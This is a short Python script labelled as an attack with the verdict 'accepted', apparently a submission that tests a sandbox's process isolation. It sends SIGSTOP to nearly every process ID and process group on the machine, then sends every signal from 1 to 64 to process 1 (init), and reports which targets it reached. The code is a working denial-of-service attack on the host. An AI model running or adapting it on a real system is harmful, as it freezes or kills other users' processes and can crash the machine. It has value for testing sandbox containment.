# Attack: a signal to every process number that may be anybody's, and to every group.
# Verdict: accepted
import os, signal

reached = []
for number in list(range(1, 40_000)) + [65_535, 2**22 - 1]:
    if number in (os.getpid(), 1):
        continue
    for target in (number, -number):
        if target == -os.getpgrp():
            continue
        try:
            os.kill(target, signal.SIGSTOP)
            reached.append(target)
        except OSError:
            pass
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass
print(*reached or ['unharmed'], input())
